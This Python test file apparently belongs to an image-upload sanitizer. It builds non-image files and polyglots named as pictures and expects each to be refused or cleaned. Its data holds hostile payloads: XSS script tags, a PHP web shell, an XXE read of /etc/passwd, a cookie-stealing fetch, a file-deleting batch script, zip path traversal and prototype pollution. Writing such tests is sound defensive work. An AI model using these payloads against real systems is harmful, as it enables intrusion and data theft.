"""Other kinds of files under a picture's name, and pictures that are something else as well."""

from __future__ import annotations

import bz2
import lzma
import pickle
from collections.abc import Callable

from PIL import Image

from tests.hostile import jpeg, png
from tests.hostile.bombs import zipped
from tests.hostile.case import Case, Cases, Fate, constant, file_case
from tests.verification.pictures import drawn, encoded

SCRIPT = b"<script>alert(document.domain)</script>"
PHP = b"<?php system($_GET['c']); ?>"
XXE = b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>'
LAUGHS = b'<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>'
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" width="400" height="400">'

# First bytes as `file` knows them, and something behind.
OTHER_KINDS: dict[str, bytes] = {
    "PDF": b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>",
    "PDF with a script": b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>",
    "PostScript": b"%!PS-Adobe-3.0 EPSF-3.0\n(%pipe%id) (w) file",
    "SVG": SVG + b"</svg>",
    "SVG with a script": SVG + SCRIPT + b"</svg>",
    "SVG that reads a file": b"<?xml version='1.0'?>" + XXE + SVG + b"&b;</svg>",
    "SVG of a million laughs": LAUGHS + SVG + b"&b;</svg>",
    "HTML": b"<!doctype html><title>a</title>" + SCRIPT,
    "HTML after a byte order mark": b"\xef\xbb\xbf<html>" + SCRIPT,
    "HTML in UTF-16": "\ufeff<html><script>alert(1)</script>".encode("utf-16"),
    "XML": b"<?xml version='1.0'?>" + XXE + b"<a>&b;</a>",
    "PHP": PHP,
    "shell script": b"#!/bin/sh\nid\n",
    "batch file": b"@echo off\r\ndel /q *.*\r\n",
    "JavaScript": b"fetch('//example.com/'+document.cookie)",
    "ELF program": b"\x7fELF\x02\x01\x01" + bytes(400),
    "Windows program": b"MZ\x90\0" + bytes(400),
    "Mach-O program": b"\xcf\xfa\xed\xfe" + bytes(400),
    "Java class": b"\xca\xfe\xba\xbe\0\0\0\x34" + bytes(100),
    "WebAssembly": b"\0asm\1\0\0\0",
    "Flash": b"FWS\x0a" + bytes(100),
    "Windows shortcut": b"L\0\0\0\x01\x14\x02\0" + bytes(100),
    "OLE document": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500),
    "RTF": rb"{\rtf1\object\objdata}",
    "RAR": b"Rar!\x1a\x07\x01\0" + bytes(100),
    "7z": b"7z\xbc\xaf\x27\x1c" + bytes(100),
    "SQLite": b"SQLite format 3\0" + bytes(100),
    "spreadsheet formula": b'=HYPERLINK("http://example.com","a"),b\n',
    "JSON": b'{"__proto__": {"admin": true}}',
    "mail": b"From: a@example.com\r\nSubject: a\r\n\r\na",
    "HEIC": b"\0\0\0\x18ftypheic" + bytes(200),
    "AVIF": b"\0\0\0\x18ftypavif" + bytes(200),
    "MP4": b"\0\0\0\x18ftypmp42" + bytes(200),
    "MP3": b"ID3\x04" + bytes(200),
    "JPEG XL": b"\xff\x0a" + bytes(200),
    "DICOM": bytes(128) + b"DICM" + bytes(200),
    "Photoshop": b"8BPS\0\1" + bytes(200),
    "WMF": b"\xd7\xcd\xc6\x9a" + bytes(200),
    "GIF that is a script": b"GIF89a/*" + bytes(20) + b"*/=1;alert(1)//",
    "ImageMagick command": b"push graphic-context\nfill 'url(https://example.com/a)'\npop",
    "XBM": b"#define a_width 400\n#define a_height 400\nstatic char a_bits[] = {0};",
}
PILLOW_KINDS = ("GIF", "WEBP", "TIFF", "BMP", "ICO", "PPM", "TGA", "PCX", "JPEG2000", "DDS", "PDF")


def cases() -> Cases:
    for name, content in OTHER_KINDS.items():
        yield file_case(f"{name} named .jpg", Fate.REFUSED, constant(content))
    for kind in PILLOW_KINDS:
        yield file_case(f"{kind} picture named .png", Fate.REFUSED, _of_kind(kind), "licence.png")
    yield from _packed()
    yield from _more_than_a_picture()


def _of_kind(kind: str) -> Callable[[], bytes]:
    return lambda: encoded(drawn(400, 400), kind)


def _packed() -> Cases:
    for name, make in {
        "zip": lambda: zipped(jpeg.photo()),
        "zip that climbs out": lambda: zipped(b"a", "../../etc/cron.d/a"),
        "Word file": lambda: zipped(b"<Types/>", "[Content_Types].xml"),
        "Java archive": lambda: zipped(b"a", "META-INF/MANIFEST.MF"),
        "bzip2": lambda: bz2.compress(jpeg.photo()),
        "xz": lambda: lzma.compress(jpeg.photo()),
        "pickle": lambda: pickle.dumps({"a": 1}),
    }.items():
        yield file_case(f"{name} named .jpg", Fate.REFUSED, make)


def _kept(name: str, make: Callable[[], bytes]) -> Case:
    return file_case(name, Fate.KEPT, make)


def _refused(name: str, make: Callable[[], bytes]) -> Case:
    return file_case(name, Fate.REFUSED, make)


def _more_than_a_picture() -> Cases:
    """Something in front makes it no picture; something inside or behind must be gone."""
    yield _refused("script before a photo", lambda: SCRIPT + jpeg.photo())
    yield _refused("zip before a photo", lambda: zipped(b"a") + jpeg.photo())
    yield _refused("PDF before a photo", lambda: OTHER_KINDS["PDF"] + jpeg.photo())
    for name, extra in {
        "script": SCRIPT,
        "PHP": PHP,
        "zip": zipped(SCRIPT),
        "PDF": b"%PDF-1.7\n",
    }.items():
        yield _kept(f"{name} behind a photo", lambda e=extra: jpeg.photo() + e)
        yield _kept(f"{name} behind a PNG", lambda e=extra: png.png() + e)
        yield _kept(
            f"{name} in a comment", lambda e=extra: jpeg.with_segments(jpeg.segment(0xFE, e))
        )
    for kind in (b"tEXt", b"iTXt", b"eXIf", b"prVt"):
        content = b"Comment\0" + (b"\0\0\0\0" if kind == b"iTXt" else b"") + SCRIPT
        yield _kept(
            f"script in PNG chunk {kind.decode()}", lambda k=kind, c=content: png.with_chunk(k, c)
        )
    for marker in (0xE0, 0xE1, 0xE2, 0xEC, 0xED, 0xEE, 0xEF):
        yield _kept(
            f"script in JPEG segment {marker:X}",
            lambda m=marker: jpeg.with_segments(jpeg.segment(m, SCRIPT)),
        )
    yield _kept(
        "script in XMP",
        lambda: jpeg.with_segments(jpeg.segment(0xE1, b"http://ns.adobe.com/xap/1.0/\0" + SCRIPT)),
    )
    for tag in (0x010E, 0x013B, 0x8298, 0x9286, 0x927C):
        yield _kept(f"script in EXIF tag {tag:X}", lambda t=tag: _with_exif(t))


def _with_exif(tag: int) -> bytes:
    notes = Image.Exif()
    notes[tag] = SCRIPT.decode()
    return encoded(drawn(), exif=notes)
